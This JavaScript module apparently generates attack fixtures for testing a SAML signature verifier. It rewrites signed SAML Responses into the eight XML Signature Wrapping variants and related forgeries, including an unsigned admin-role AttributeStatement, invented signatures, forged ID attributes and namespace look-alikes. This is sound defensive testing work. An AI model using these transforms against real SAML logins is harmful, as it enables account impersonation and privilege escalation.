// Rewrites a response that xmlsec1 signed, as an attacker or a careless proxy would, without re-signing:
// the eight XML Signature Wrapping attacks of Somorovsky et al., "On Breaking SAML: Be Whoever You Want
// to Be" (USENIX Security 2012), as SAML Raider implements them, and smaller edits (a changed value, a
// damaged SignatureValue, a comment inside a value). Plain text surgery on the documents lib/response.mjs
// builds, deliberately independent of samlint's parser; nothing here signs anything.

const RESPONSE = 'samlp:Response';
const ASSERTION = 'saml:Assertion';
const SIGNATURE = 'ds:Signature';

/** The value the attacker wants read instead: another agent of the Connect user list. */
export const VICTIM_SESSION_NAME = 'jane.doe@example.com';
export const ATTACKER_SESSION_NAME = 'raj.patel@example.com';

export const EVIL_RESPONSE_ID = '_evil_response_ID';
export const EVIL_ASSERTION_ID = '_evil_assertion_ID';

/**
 * `[start, end)` of the first `<qname …>…</qname>` at or after `from`. The generated documents never
 * nest an element in one of the same name before this module does, so the first end tag closes it.
 */
export function elementRange(xml, qname, from = 0) {
  const start = xml.indexOf(`<${qname} `, from) >= 0 ? xml.indexOf(`<${qname} `, from) : xml.indexOf(`<${qname}>`, from);
  if (start < 0) throw new Error(`no <${qname}> in the document`);
  const close = `</${qname}>`;
  const end = xml.indexOf(close, start);
  if (end < 0) throw new Error(`<${qname}> is not closed`);
  return [start, end + close.length];
}

function cut(xml, [start, end]) {
  return { before: xml.slice(0, start), element: xml.slice(start, end), after: xml.slice(end) };
}

/** `element` with `inner` put just before its end tag. */
function appendChild(element, qname, inner) {
  const close = `</${qname}>`;
  const at = element.lastIndexOf(close);
  return `${element.slice(0, at)}${inner}${element.slice(at)}`;
}

/**
 * The element without its ds:Signature, and nothing else (the whitespace around it stays, as the
 * enveloped-signature transform leaves it): exactly what that signature's digest covered.
 */
export function withoutSignatures(element) {
  return element.replace(/<ds:Signature\b[\s\S]*?<\/ds:Signature>/g, '');
}

/** The element with the ID attribute of its start tag set to `id`. */
export function withId(element, id) {
  return element.replace(/^(<[^>]*?\sID=")[^"]*"/, `$1${id}"`);
}

/** The attacker's edit: the RoleSessionName (and so the Connect user) becomes someone else's. */
export function makeEvil(element) {
  const edited = element.replace(`>${VICTIM_SESSION_NAME}<`, `>${ATTACKER_SESSION_NAME}<`);
  if (edited === element) throw new Error('no RoleSessionName to change');
  return edited;
}

/** Replaces one literal text of the document, which must occur. */
export function replaceOnce(xml, from, to) {
  const at = xml.indexOf(from);
  if (at < 0) throw new Error(`'${from}' not found`);
  return `${xml.slice(0, at)}${to}${xml.slice(at + from.length)}`;
}

/** XSW1 (Response signed): the signed Response, minus its Signature, goes inside that Signature; the root becomes the attacker's, with a new ID. */
export function xsw1(xml) {
  const { before, element: response } = cut(xml, elementRange(xml, RESPONSE));
  const original = withoutSignatures(response);
  const evil = withId(makeEvil(response), EVIL_RESPONSE_ID);
  const sig = cut(evil, elementRange(evil, SIGNATURE));
  return `${before}${sig.before}${appendChild(sig.element, SIGNATURE, original)}${sig.after}\n`;
}

/** XSW2 (Response signed): as XSW1, but the copy of the signed Response goes just before the Signature, as a detached signature's target. */
export function xsw2(xml) {
  const { before, element: response } = cut(xml, elementRange(xml, RESPONSE));
  const original = withoutSignatures(response);
  const evil = withId(makeEvil(response), EVIL_RESPONSE_ID);
  const sig = cut(evil, elementRange(evil, SIGNATURE));
  return `${before}${sig.before}${original}\n  ${sig.element}${sig.after}\n`;
}

/** An unsigned copy of the signed Assertion with the attacker's values and a new ID. */
function evilAssertion(assertion) {
  return withId(makeEvil(withoutSignatures(assertion)), EVIL_ASSERTION_ID);
}

/** XSW3 (Assertion signed): an evil, unsigned Assertion with a new ID goes before the signed one. */
export function xsw3(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  return `${before}${evilAssertion(element)}\n  ${element}${after}`;
}

/** XSW4 (Assertion signed): the evil Assertion (new ID, unsigned) takes the signed one's place and wraps it as its last child. */
export function xsw4(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  return `${before}${appendChild(evilAssertion(element), ASSERTION, `\n  ${element}`)}${after}`;
}

/** XSW5 (Assertion signed): the signed Assertion is edited in place and given a new ID, keeping its Signature; an unsigned copy of the original is appended to the Response. */
export function xsw5(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const original = withoutSignatures(element);
  const evil = withId(makeEvil(element), EVIL_ASSERTION_ID);
  const rest = `${evil}${after}`;
  return `${before}${replaceOnce(rest, `</${RESPONSE}>`, `  ${original}\n</${RESPONSE}>`)}`;
}

/** XSW6 (Assertion signed): as XSW5, but the unsigned copy of the original goes inside the evil Assertion's Signature. */
export function xsw6(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const original = withoutSignatures(element);
  const evil = withId(makeEvil(element), EVIL_ASSERTION_ID);
  const sig = cut(evil, elementRange(evil, SIGNATURE));
  return `${before}${sig.before}${appendChild(sig.element, SIGNATURE, original)}${sig.after}${after}`;
}

/** XSW7 (Assertion signed): an samlp:Extensions element after the Response's Issuer holds an evil, unsigned copy that keeps the signed Assertion's ID. */
export function xsw7(xml) {
  const assertion = xml.slice(...elementRange(xml, ASSERTION));
  const extensions = `<samlp:Extensions>${makeEvil(withoutSignatures(assertion))}</samlp:Extensions>`;
  return xml.replace(/(<samlp:Response\b[^>]*>\s*<saml:Issuer>[^<]*<\/saml:Issuer>)/, `$1\n  ${extensions}`);
}

/** XSW8 (Assertion signed): the signed Assertion is edited in place (same ID, Signature kept) and an unsigned copy of the original goes in a ds:Object inside that Signature. */
export function xsw8(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const original = withoutSignatures(element);
  const evil = makeEvil(element);
  const sig = cut(evil, elementRange(evil, SIGNATURE));
  return `${before}${sig.before}${appendChild(sig.element, SIGNATURE, `<ds:Object>${original}</ds:Object>`)}${sig.after}${after}`;
}

/** The Assertion's Signature moved into an samlp:Extensions element of the Response (after its Issuer). */
export function signatureIntoExtensions(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const sig = cut(element, elementRange(element, SIGNATURE));
  const moved = `${before}${sig.before}${sig.after}${after}`;
  return moved.replace(/(<samlp:Response\b[^>]*>\s*<saml:Issuer>[^<]*<\/saml:Issuer>)/, `$1\n  <samlp:Extensions>${sig.element}</samlp:Extensions>`);
}

/** An unsigned second Assertion (new ID, the attacker's values) appended after the signed one. */
export function appendUnsignedAssertion(xml) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  return `${before}${element}\n  ${evilAssertion(element)}${after}`;
}

/** The first character of the first SignatureValue changed (a damaged or forged signature). */
export function damageSignatureValue(xml) {
  return xml.replace(/(<ds:SignatureValue>)(.)/, (_, tag, first) => `${tag}${first === 'A' ? 'B' : 'A'}`);
}

/** `value`, which must occur as a whole element text, split at `at` by `splitter` (a comment, a CDATA section…). */
export function splitValue(xml, value, at, splitter) {
  return replaceOnce(xml, `>${value}<`, `>${value.slice(0, at)}${splitter}${value.slice(at)}<`);
}

/** `value`, which must occur as a whole element text, with `[at, end)` wrapped in a CDATA section. */
export function cdataInValue(xml, value, at, end) {
  return replaceOnce(xml, `>${value}<`, `>${value.slice(0, at)}<![CDATA[${value.slice(at, end)}]]>${value.slice(end)}<`);
}

// ---------------------------------------------------------------------------------------------------
// Issue 11's attack classes: forged IDs, invented signatures, unsigned SAML content next to signed
// content, look-alike Assertions, and documents made not well-formed after signing.

const WSU = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd';
const ADMIN_ROLE = 'arn:aws:iam::123456789012:role/ConnectAdmin,arn:aws:iam::123456789012:saml-provider/ExampleIdP';

/** The unsigned Subject an attacker adds: a NameID with the attacker's name. */
export const EVIL_SUBJECT = `<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">${ATTACKER_SESSION_NAME}</saml:NameID></saml:Subject>`;
/** The unsigned AttributeStatement an attacker adds: the attacker's RoleSessionName and an admin Role. */
export const EVIL_ATTRIBUTES =
  '<saml:AttributeStatement>' +
  `<saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri"><saml:AttributeValue>${ADMIN_ROLE}</saml:AttributeValue></saml:Attribute>` +
  `<saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/RoleSessionName" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri"><saml:AttributeValue>${ATTACKER_SESSION_NAME}</saml:AttributeValue></saml:Attribute>` +
  '</saml:AttributeStatement>';
/** Unsigned Conditions valid for ten years. */
export const EVIL_CONDITIONS =
  '<saml:Conditions NotBefore="2026-11-27T08:55:00Z" NotOnOrAfter="2036-11-27T09:05:00Z"><saml:AudienceRestriction><saml:Audience>urn:amazon:webservices</saml:Audience></saml:AudienceRestriction></saml:Conditions>';

/**
 * The signed Assertion replaced by a forged one (the attacker's RoleSessionName) that carries the signed
 * ID value under `attribute` (`Id`, `id`, `xml:id`, `wsu:Id`) instead of `ID`, and keeps a copy of the
 * genuine Signature. A verifier that resolves `#id` by any of these names digests the forged element.
 */
export function forgedIdAttribute(xml, attribute) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const declaration = attribute.startsWith('wsu:') ? ` xmlns:wsu="${WSU}"` : '';
  const forged = makeEvil(element).replace(/^(<[^>]*?)\sID="([^"]*)"/, `$1${declaration} ${attribute}="$2"`);
  return `${before}${forged}${after}`;
}

/** Base64 of `length` bytes that are not a digest or signature of anything (a fixed pattern). */
function invented(length, seed) {
  return Buffer.from(Array.from({ length }, (_, i) => (i * 73 + seed * 151 + 17) & 0xff)).toString('base64');
}

/**
 * A forged Assertion (the attacker's RoleSessionName) whose Signature has an invented DigestValue and
 * SignatureValue and no KeyInfo: nothing in it was computed by any key.
 */
export function inventedSignature(xml) {
  return makeEvil(xml)
    .replace(/<ds:DigestValue>[^<]*<\/ds:DigestValue>/, `<ds:DigestValue>${invented(32, 1)}</ds:DigestValue>`)
    .replace(/<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/, `<ds:SignatureValue>${invented(256, 2)}</ds:SignatureValue>`)
    .replace(/<ds:KeyInfo>[\s\S]*?<\/ds:KeyInfo>/, '');
}

/** `content` in a ds:Object at the end of the first ds:Signature of the (first) Assertion. */
export function intoSignatureObject(xml, content) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  const sig = cut(element, elementRange(element, SIGNATURE));
  return `${before}${sig.before}${appendChild(sig.element, SIGNATURE, `<ds:Object>${content}</ds:Object>`)}${sig.after}${after}`;
}

/** `content` in the first ds:KeyInfo of the Assertion's Signature, after its X509Data. */
export function intoKeyInfo(xml, content) {
  const { before, element, after } = cut(xml, elementRange(xml, ASSERTION));
  return `${before}${replaceOnce(element, '</ds:X509Data>', `</ds:X509Data>${content}`)}${after}`;
}

/** `content` in a samlp:Extensions element of the Response, after its Issuer. */
export function intoExtensions(xml, content) {
  const edited = xml.replace(/(<samlp:Response\b[^>]*>\s*<saml:Issuer>[^<]*<\/saml:Issuer>)/, `$1\n  <samlp:Extensions>${content}</samlp:Extensions>`);
  if (edited === xml) throw new Error('no Response Issuer to put Extensions after');
  return edited;
}

/** `content` as the last child of the Response. */
export function intoResponse(xml, content) {
  return replaceOnce(xml, `</${RESPONSE}>`, `  ${content}\n</${RESPONSE}>`);
}

/** `content` just before the (first) Assertion. */
export function beforeAssertion(xml, content) {
  const [start] = elementRange(xml, ASSERTION);
  return `${xml.slice(0, start)}${content}\n  ${xml.slice(start)}`;
}

/**
 * An unsigned evil copy of the signed Assertion (new ID, the attacker's RoleSessionName) that a reader
 * matching names loosely could take for a SAML 2.0 Assertion:
 * - `saml1`: its `saml` prefix bound to SAML 1.0's namespace (urn:oasis:names:tc:SAML:1.0:assertion);
 * - `no-namespace`: no prefix and no namespace;
 * - `rebound-prefix`: it inherits `saml` from a wrapper element that binds it to another URI;
 * - `lower-case`: SAML 2.0's namespace, but the element is `saml:assertion`.
 */
export function lookAlikeAssertion(xml, kind) {
  const assertion = xml.slice(...elementRange(xml, ASSERTION));
  const evil = evilAssertion(assertion);
  const saml2 = ' xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"';
  if (!evil.includes(saml2)) throw new Error('the Assertion does not declare xmlns:saml');
  switch (kind) {
    case 'saml1':
      return evil.replace(saml2, ' xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"');
    case 'no-namespace':
      return evil.replace(saml2, '').replace(/<(\/?)saml:/g, '<$1');
    case 'rebound-prefix':
      return `<x:Wrapper xmlns:x="urn:example:wrapper" xmlns:saml="urn:example:not-saml">${evil.replace(saml2, '')}</x:Wrapper>`;
    case 'lower-case':
      return evil.replace(/^<saml:Assertion\b/, '<saml:assertion').replace(/<\/saml:Assertion>$/, '</saml:assertion>');
    default:
      throw new Error(`unknown look-alike ${kind}`);
  }
}

/** XSW7 with a new ID: the signed Assertion stays as it is; samlp:Extensions holds an unsigned evil copy with another ID. */
export function xsw7NewId(xml) {
  const assertion = xml.slice(...elementRange(xml, ASSERTION));
  return intoExtensions(xml, evilAssertion(assertion));
}

/** XSW8 with a new ID: the signed Assertion stays as it is; a ds:Object of its Signature holds an unsigned evil copy with another ID. */
export function xsw8NewId(xml) {
  const assertion = xml.slice(...elementRange(xml, ASSERTION));
  return intoSignatureObject(xml, evilAssertion(assertion));
}

/** A raw `<` put into the Response's Destination attribute value (XML 1.0 forbids it: well-formedness constraint "No < in Attribute Values"). */
export function rawLessThanInAttribute(xml) {
  return xml.replace(/(<samlp:Response\b[^>]*?\sDestination="[^"]*)"/, '$1?next=<x"');
}

/** A character reference to U+0000 in the NameID's text (XML 1.0 forbids it: well-formedness constraint "Legal Character"). */
export function nulCharacterReference(xml, value) {
  return splitValue(xml, value, 8, '&#0;');
}
